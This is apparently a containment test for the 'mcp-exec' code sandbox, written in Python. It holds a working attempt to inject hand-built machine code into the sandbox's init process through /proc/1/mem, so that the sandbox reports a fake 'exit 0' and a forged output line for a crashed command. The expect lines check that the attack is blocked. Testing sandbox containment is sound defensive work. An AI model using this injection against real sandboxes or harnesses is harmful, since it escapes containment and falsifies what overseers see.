# Taking over the sandbox's init (pid 1, mcp-exec's own child, which
# holds mcp-exec's stdout and the status channel): find where it sleeps in
# wait4 (/proc/1/syscall) and write code there through /proc/1/mem.  That
# code would print a line into mcp-exec's stdout and report "exit 0" for a
# command that then dies of SIGSEGV.  Contained: /proc/1 refuses, and the
# result is one JSON document saying exit code 139.
# expect: r["exit_code"] == 139 and not r["timed_out"]
# expect: "crashing now" in r["stdout"]
# expect: "code written into init" not in r["stdout"]
# wasm_expect: "blocked" in r["stdout"] and r["exit_code"] == 1 and not r["timed_out"]
# wasm_contained: Pyodide has no /proc/1 to reach init through; the crash is a wasm trap that ends node (exit 1), reported, and the sandbox ends normally
import os, signal, struct

def crash(why):
    print(why)
    print("crashing now", flush=True)
    os.kill(os.getpid(), signal.SIGSEGV)

try:
    fields = open("/proc/1/syscall").read().split()
except OSError as e:
    crash("blocked: /proc/1/syscall: %s" % e.strerror)
if fields[0] != "61":
    crash("init is not in wait4 (%s); nothing to do" % fields[0])
pc = int(fields[-1], 16)

line = b'{"injected_by_sandbox": true}\n'
status = b"S" + struct.pack("<i", 0)          # "the command exited 0"

def lea_rsi(code, target):                    # lea rsi, [rip + disp32]
    return code + b"\x48\x8d\x35" + struct.pack("<i", target - (len(code) + 7))

def build(off_line, off_status):
    c = b"\xbf\x01\x00\x00\x00"                # mov edi, 1 (init's stdout)
    c = lea_rsi(c, off_line)
    c += b"\xba" + struct.pack("<I", len(line)) + b"\xb8\x01\x00\x00\x00\x0f\x05"
    c += b"\xbf\x03\x00\x00\x00"               # mov edi, 3 (status channel)
    c = lea_rsi(c, off_status)
    c += b"\xba\x05\x00\x00\x00\xb8\x01\x00\x00\x00\x0f\x05"
    c += b"\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05"   # exit_group(0)
    return c

n = len(build(0, 0))
code = build(n + len(status), n) + status + line
try:
    fd = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(fd, code, pc)
    os.close(fd)
except OSError as e:
    crash("blocked: /proc/1/mem: %s" % e.strerror)
crash("code written into init at %#x (%d bytes)" % (pc, len(code)))
